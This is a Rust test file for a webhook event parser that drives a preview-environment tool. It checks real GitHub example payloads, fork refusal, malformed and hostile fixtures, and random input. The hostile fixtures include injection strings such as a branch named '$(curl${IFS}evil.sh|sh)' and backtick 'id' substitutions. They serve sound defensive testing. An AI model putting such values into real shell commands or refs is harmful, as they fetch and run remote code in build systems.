//! Event parsing on real GitHub webhook payloads (`@octokit/webhooks-examples`), on fixtures
//! derived from them, on hostile payloads, and on random bytes.
#![allow(
    clippy::disallowed_methods,
    reason = "tests read fixture files and the `CI` variable"
)]
#![allow(clippy::print_stderr, reason = "a skipped test says so loudly")]

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use idp_core::domain::decide::{Action, NoOpReason, decide};
use idp_core::domain::event::{
    EventError, IgnoredReason, PrAction, RefProblem, Trigger, parse_event,
};
use proptest::prelude::*;
use serde_json::Value;

/// The events idp parses; every payload is also fed to each of them.
const PARSED: [&str; 6] = [
    "push",
    "delete",
    "pull_request",
    "pull_request_review",
    "schedule",
    "workflow_dispatch",
];

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/webhooks")
}

fn fixture(name: &str) -> Vec<u8> {
    let path = fixtures().join(name);
    std::fs::read(&path).unwrap_or_else(|e| panic!("cannot read {}: {e}", path.display()))
}

/// The `{name, examples}` list of `@octokit/webhooks-examples`, or `None` (outside CI only)
/// when `npm install` has not been run.
fn examples() -> Option<Vec<(String, Vec<Value>)>> {
    idp_test_support::webhook_examples::all()
}

fn kinds(results: &[Result<Trigger, EventError>]) -> BTreeMap<String, usize> {
    let mut counts = BTreeMap::new();
    for r in results {
        let key = match r {
            Ok(Trigger::Ignored { reason }) => {
                let v = serde_json::to_value(reason).unwrap();
                format!("ignored:{}", v["kind"].as_str().unwrap())
            }
            Ok(Trigger::PullRequestClosed { merged, .. }) => {
                format!("pull_request_closed:merged={merged}")
            }
            Ok(t) => t.kind().to_owned(),
            Err(e) => format!("error:{}", e.kind()),
        };
        *counts.entry(key).or_insert(0) += 1;
    }
    counts
}

fn counts(pairs: &[(&str, usize)]) -> BTreeMap<String, usize> {
    pairs.iter().map(|(k, n)| ((*k).to_owned(), *n)).collect()
}

#[test]
fn every_real_example_of_the_parsed_events_gives_the_expected_trigger() {
    let Some(index) = examples() else { return };
    let by_name: BTreeMap<_, _> = index.into_iter().collect();
    let parse_all = |event: &str| -> Vec<Result<Trigger, EventError>> {
        by_name[event]
            .iter()
            .map(|ex| parse_event(event, ex.to_string().as_bytes()))
            .collect()
    };

    // 2 pushes to `refs/heads/master` (the default branch) and 5 tag pushes/deletions.
    assert_eq!(
        kinds(&parse_all("push")),
        counts(&[("ignored:default_branch", 2), ("ignored:tag_push", 5)])
    );
    assert_eq!(
        kinds(&parse_all("delete")),
        counts(&[("ignored:tag_deleted", 4)])
    );

    let prs = parse_all("pull_request");
    assert_eq!(
        kinds(&prs),
        counts(&[
            ("ignored:pull_request_action", 18),
            ("pull_request", 9),
            ("pull_request_closed:merged=false", 2),
        ])
    );
    for pr in prs.iter().flatten() {
        if let Trigger::PullRequest { action, pr } = pr {
            assert!(matches!(
                action,
                PrAction::Opened | PrAction::Synchronize | PrAction::Reopened | PrAction::Labeled
            ));
            assert_eq!(pr.repository.as_str(), "Codertocat/Hello-World");
            assert_eq!(pr.branch.as_str(), "changes");
            assert_eq!(pr.base_branch.as_str(), "master");
            assert!(!pr.from_fork);
        }
    }

    // Submitted reviews may approve a waiting preview; a dismissal changes nothing by itself.
    let reviews = parse_all("pull_request_review");
    assert_eq!(
        kinds(&reviews),
        counts(&[("ignored:pull_request_action", 1), ("pull_request", 3)])
    );
    for t in reviews.iter().flatten() {
        if let Trigger::PullRequest { action, pr } = t {
            assert_eq!(*action, PrAction::Reviewed);
            assert_eq!(pr.number, 2, "the number comes from `pull_request.number`");
            assert_eq!(pr.branch.as_str(), "changes");
            assert!(!pr.from_fork);
            // No record yet: a review provisions a waiting preview (the gate decides).
            assert_eq!(
                decide(t, None, chrono::DateTime::UNIX_EPOCH).action,
                Action::Provision
            );
        }
    }

    let dispatches = parse_all("workflow_dispatch");
    assert_eq!(kinds(&dispatches), counts(&[("dispatch", 2)]));
    for d in dispatches.iter().flatten() {
        let Trigger::Dispatch { git_ref, .. } = d else {
            unreachable!()
        };
        assert!(git_ref.starts_with("refs/heads/"), "{git_ref}");
    }
}

#[test]
fn every_real_example_of_every_event_parses_or_errors_without_panicking() {
    let Some(index) = examples() else { return };
    let mut total = 0;
    for (name, examples) in &index {
        for ex in examples {
            let bytes = ex.to_string().into_bytes();
            let own = parse_event(name, &bytes);
            if !PARSED.contains(&name.as_str()) {
                assert!(
                    matches!(
                        own,
                        Ok(Trigger::Ignored {
                            reason: IgnoredReason::UnsupportedEvent { .. }
                        })
                    ),
                    "{name}: {own:?}"
                );
            }
            // Every payload under every parsed name: typed results only, never a panic.
            for event in PARSED {
                let _ = parse_event(event, &bytes);
            }
            total += 1;
        }
    }
    assert!(
        total > 300,
        "only {total} examples: is the package complete?"
    );
}

#[test]
fn merged_pull_request_fixture_is_closed_and_merged() {
    let t = parse_event("pull_request", &fixture("pull_request.closed.merged.json")).unwrap();
    let Trigger::PullRequestClosed { merged, pr } = &t else {
        panic!("{t:?}")
    };
    assert!(*merged);
    assert_eq!(pr.number, 2);
    assert_eq!(pr.branch.as_str(), "changes");
    assert_eq!(
        decide(&t, None, chrono::DateTime::UNIX_EPOCH).action,
        Action::NoOp {
            reason: NoOpReason::AlreadyGone
        }
    );
}

#[test]
fn branch_delete_fixtures_are_branch_deletions() {
    for file in ["delete.branch.json", "push.branch-deleted.json"] {
        let t = parse_event(file.split('.').next().unwrap(), &fixture(file)).unwrap();
        let Trigger::BranchDeleted {
            branch,
            repository,
            actor,
        } = &t
        else {
            panic!("{file}: {t:?}")
        };
        assert_eq!(branch.as_str(), "feature/payment-api");
        assert_eq!(repository.as_str(), "Codertocat/Hello-World");
        assert_eq!(actor, "Codertocat");
    }
}

#[test]
fn feature_branch_push_fixture_provisions_the_documented_environment() {
    let t = parse_event("push", &fixture("push.feature-branch.json")).unwrap();
    let Trigger::Push {
        branch,
        commit,
        default_branch,
        ..
    } = &t
    else {
        panic!("{t:?}")
    };
    assert_eq!(branch.as_str(), "feature/payment-api");
    assert_eq!(commit.short(), "6113728");
    assert_eq!(default_branch.as_ref().unwrap().as_str(), "master");
    let d = decide(&t, None, chrono::DateTime::UNIX_EPOCH);
    assert_eq!(d.action, Action::Provision);
    assert_eq!(d.env.unwrap().as_str(), "preview-payment-api");
}

#[test]
fn fork_pull_request_fixture_is_flagged_and_refused() {
    let t = parse_event("pull_request", &fixture("pull_request.opened.fork.json")).unwrap();
    let Trigger::PullRequest { pr, .. } = &t else {
        panic!("{t:?}")
    };
    assert!(pr.from_fork);
    assert_eq!(
        pr.head_repository.as_ref().unwrap().as_str(),
        "mallory/Hello-World"
    );
    assert_eq!(
        decide(&t, None, chrono::DateTime::UNIX_EPOCH)
            .action
            .as_str(),
        "refuse"
    );
}

#[test]
fn schedule_fixture_is_a_sweep() {
    let t = parse_event("schedule", &fixture("schedule.json")).unwrap();
    assert!(matches!(&t, Trigger::Schedule { cron: Some(c), .. } if c == "0 */4 * * *"));
    assert_eq!(
        decide(&t, None, chrono::DateTime::UNIX_EPOCH).action,
        Action::Sweep
    );
}

#[test]
fn hostile_fixtures_give_values_or_typed_errors() {
    let branch = |file: &str| -> String {
        let t = parse_event("push", &fixture(&format!("hostile/{file}"))).unwrap();
        t.branch().unwrap().as_str().to_owned()
    };
    assert_eq!(
        branch("push.command-substitution.json"),
        "$(curl${IFS}evil.sh|sh)"
    );
    assert_eq!(branch("push.backticks.json"), "feature/`id`");
    assert_eq!(branch("push.quotes.json"), "feature/\"quoted\"'single'");

    let err = |event: &str, file: &str| -> EventError {
        parse_event(event, &fixture(&format!("hostile/{file}"))).unwrap_err()
    };
    assert!(matches!(
        err("push", "push.command-substitution-with-space.json"),
        EventError::InvalidRef {
            problem: RefProblem::ForbiddenCharacter { character: ' ' },
            ..
        }
    ));
    assert!(matches!(
        err("push", "push.branch-1000-chars.json"),
        EventError::InvalidRef {
            problem: RefProblem::TooLong { len: 1008 },
            ..
        }
    ));
    assert!(matches!(
        err("push", "push.newline-in-ref.json"),
        EventError::InvalidRef {
            problem: RefProblem::ControlCharacter,
            ..
        }
    ));
    assert!(
        matches!(err("push", "push.ref-is-a-number.json"), EventError::WrongType { path, .. } if path == "ref")
    );
    assert!(matches!(
        err("push", "push.repository-without-owner.json"),
        EventError::InvalidRepository { .. }
    ));
    assert!(matches!(
        err("push", "push.invalid-json.json"),
        EventError::InvalidJson { .. }
    ));
    assert!(matches!(
        err("pull_request", "pull_request.missing-head-ref.json"),
        EventError::MissingField { path, .. } if path == "pull_request.head.ref"
    ));
    assert!(matches!(
        err("pull_request", "pull_request.number-is-a-string.json"),
        EventError::WrongType { path, .. } if path == "number"
    ));

    let t = parse_event(
        "pull_request",
        &fixture("hostile/pull_request.hostile-title.json"),
    )
    .unwrap();
    let Trigger::PullRequestClosed { pr, .. } = t else {
        panic!("expected a closed PR")
    };
    assert_eq!(pr.title, "<!-- idp:preview:x --> `$(id)` @everyone | break");
}

#[test]
fn hostile_fixture_error_messages_snapshot() {
    let mut files: Vec<_> = std::fs::read_dir(fixtures().join("hostile"))
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    files.sort();
    let mut text = String::new();
    for file in files {
        let event = file.split('.').next().unwrap();
        let result = match parse_event(event, &fixture(&format!("hostile/{file}"))) {
            Ok(t) => format!("ok {}: {:?}", t.kind(), t.branch().map(|b| b.as_str())),
            Err(e) => format!("error {}: {e}", e.kind()),
        };
        text.push_str(&format!("{file}\n  {result}\n"));
    }
    insta::with_settings!({ snapshot_path => fixtures().join("snapshots"), prepend_module_to_snapshot => false }, {
        insta::assert_snapshot!("hostile_fixtures", text);
    });
}

// === random input ===

/// Pieces of JSON that make random payloads look like GitHub's.
fn json_token() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("{".to_owned()),
        Just("}".to_owned()),
        Just("[".to_owned()),
        Just("]".to_owned()),
        Just(",".to_owned()),
        Just(":".to_owned()),
        Just("null".to_owned()),
        Just("true".to_owned()),
        Just("-1e999".to_owned()),
        Just("18446744073709551616".to_owned()),
        prop::sample::select(vec![
            "\"ref\"",
            "\"after\"",
            "\"deleted\"",
            "\"repository\"",
            "\"full_name\"",
            "\"default_branch\"",
            "\"sender\"",
            "\"login\"",
            "\"pull_request\"",
            "\"head\"",
            "\"base\"",
            "\"repo\"",
            "\"sha\"",
            "\"action\"",
            "\"number\"",
            "\"merged\"",
            "\"ref_type\"",
            "\"inputs\"",
            "\"refs/heads/x\"",
            "\"refs/tags/v1\"",
            "\"closed\"",
            "\"opened\"",
            "\"branch\"",
            "\"o/r\"",
            "\"\\u0000\"",
            "\"\\ud800\"",
        ])
        .prop_map(str::to_owned),
        "\"[^\"\\\\]{0,12}\"",
        any::<i64>().prop_map(|n| n.to_string()),
    ]
}

/// A well-formed payload of the right shape with random values in its fields.
fn shaped_payload() -> impl Strategy<Value = (usize, Value)> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::Bool),
        any::<i64>().prop_map(Value::from),
        ".{0,40}".prop_map(Value::String),
        "(refs/heads/|refs/tags/)?[a-z/.@{}~^: \\n-]{0,20}".prop_map(Value::String),
        "[0-9a-f]{40}".prop_map(Value::String),
    ];
    let value = leaf.prop_recursive(3, 16, 4, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..4).prop_map(Value::Array),
            prop::collection::btree_map("[a-z_]{1,8}", inner, 0..4)
                .prop_map(|m| Value::Object(m.into_iter().collect())),
        ]
    });
    let fields = prop::collection::vec(
        (
            prop::sample::select(vec![
                "ref", "after", "deleted", "ref_type", "action", "number", "inputs", "schedule",
            ]),
            value.clone(),
        ),
        0..6,
    );
    (0..PARSED.len(), fields, value).prop_map(|(event, fields, nested)| {
        let mut obj = serde_json::json!({
            "repository": {"full_name": "octo-org/octo-repo", "default_branch": "main"},
            "sender": {"login": "octocat"},
            "pull_request": {
                "title": "t", "user": {"login": "u"},
                "head": {"ref": "feature/x", "sha": "6113728f27ae82c7b1a177c8d03f9e96e0adf246", "repo": nested.clone()},
                "base": {"ref": "main", "repo": {"full_name": "octo-org/octo-repo"}}
            }
        });
        for (key, v) in fields {
            obj[key] = v;
        }
        (event, obj)
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn random_bytes_never_panic(event in 0..PARSED.len(), bytes in prop::collection::vec(any::<u8>(), 0..512)) {
        let _ = parse_event(PARSED[event], &bytes);
    }

    #[test]
    fn random_json_ish_tokens_never_panic(event in 0..PARSED.len(), tokens in prop::collection::vec(json_token(), 0..48)) {
        let _ = parse_event(PARSED[event], tokens.concat().as_bytes());
    }

    #[test]
    fn payloads_with_random_field_values_give_triggers_or_typed_errors((event, payload) in shaped_payload()) {
        match parse_event(PARSED[event], payload.to_string().as_bytes()) {
            Ok(trigger) => {
                if let Some(branch) = trigger.branch() {
                    prop_assert!(idp_core::domain::event::check_ref_name(branch.as_str()).is_ok());
                }
            }
            Err(e) => prop_assert!(!e.to_string().contains('\n'), "one-line message: {e}"),
        }
    }
}
